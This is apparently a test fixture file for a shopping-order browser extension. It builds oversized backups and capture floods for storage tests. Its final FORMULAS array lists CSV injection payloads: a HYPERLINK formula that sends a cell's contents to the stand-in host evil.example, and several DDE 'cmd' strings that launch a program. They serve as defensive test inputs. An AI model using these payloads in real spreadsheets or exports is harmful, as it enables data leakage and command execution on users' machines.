// Hostile data for the storage and capture tests (node and end to end): backups that are valid
// but far over the limits, floods of captures from one site, and the seller order they must not
// push out. Generated here, nothing copied from elsewhere.
import { readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import type { Draft } from '../../../extension/adapters/types.ts';
import type { Capture, Item, StoredData } from '../../../extension/storage/schema.ts';
import { BACKUP_FORMAT } from '../../../extension/storage/backup.ts';

const PAGES = resolve('test/fixtures/pages');
const expected = (file: string) => JSON.parse(readFileSync(join(PAGES, file), 'utf8')) as { url: string; draft: Draft };

/** A captured eBay seller order (the committed fixture's draft). */
export const sellerOrderDraft = (): Draft => expected('ebay/seller-order.expected.json').draft;
/** A captured product (the committed generic fixture's draft). */
export const productDraft = (): Draft => expected('generic/jsonld-offer.expected.json').draft;

/** The n-th order of a large backup: a title of about `titleLength` characters and, unless
 * `withUrl` is false, the product's URL. */
export function bigItem(n: number, titleLength = 160, withUrl = true): Item {
  const day = String(1 + (n % 28)).padStart(2, '0');
  return {
    id: `item-${n}`,
    addedAt: new Date(Date.UTC(2026, 0, 1) + n * 60_000).toISOString(),
    title: `Order ${n} ${'x'.repeat(Math.max(0, titleLength - 12))}`.slice(0, 500),
    ...(withUrl ? { url: `https://www.etsy.com/listing/${100000 + n}/item-${n}` } : {}),
    quantity: 1,
    price: { amount: `${(n % 500) + 1}.00`, currency: 'USD' },
    origin: 'PT',
    shipFrom: 'PT',
    mode: 'express',
    kind: 'purchase',
    arrival: `2026-12-${day}`,
    orderId: `ORD-${Math.floor(n / 3)}`,
  };
}

export function productCapture(n: number, host: string, at: string, automatic = true): Capture {
  const d = productDraft();
  return { id: `cap-${host}-${n}`, at, automatic, draft: { ...d, url: `https://${host}/products/p-${n}`, title: `Product ${n}` } };
}

/** A backup file's text (pretty-printed as the options page writes it, or compact). */
export function backupText(data: Partial<StoredData> & { settings: StoredData['settings'] }, pretty = true): string {
  return JSON.stringify(
    { format: BACKUP_FORMAT, exportedAt: '2026-11-30T12:00:00.000Z', schemaVersion: 1, captures: [], items: [], rates: null, quarantine: [], ...data },
    null,
    pretty ? 2 : undefined,
  );
}

/** The two backups of the review, valid and under the options page's 20 MB file limit, far over
 * what storage may hold: 40,000 short orders (about 9.6 MB) and 40,000 orders with long titles
 * and URLs (about 18.4 MB). */
export function oversizedBackup(settings: StoredData['settings'], size: '9MB' | '18MB'): string {
  const items = Array.from({ length: 40_000 }, (_, i) => (size === '9MB' ? bigItem(i, 12, false) : bigItem(i, 170)));
  return backupText({ settings, items }, false);
}

/** Payloads from OWASP's CSV Injection page and the review that found the hole. */
export const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
  '\uFF1D1+2',
  "'=1+2",
];
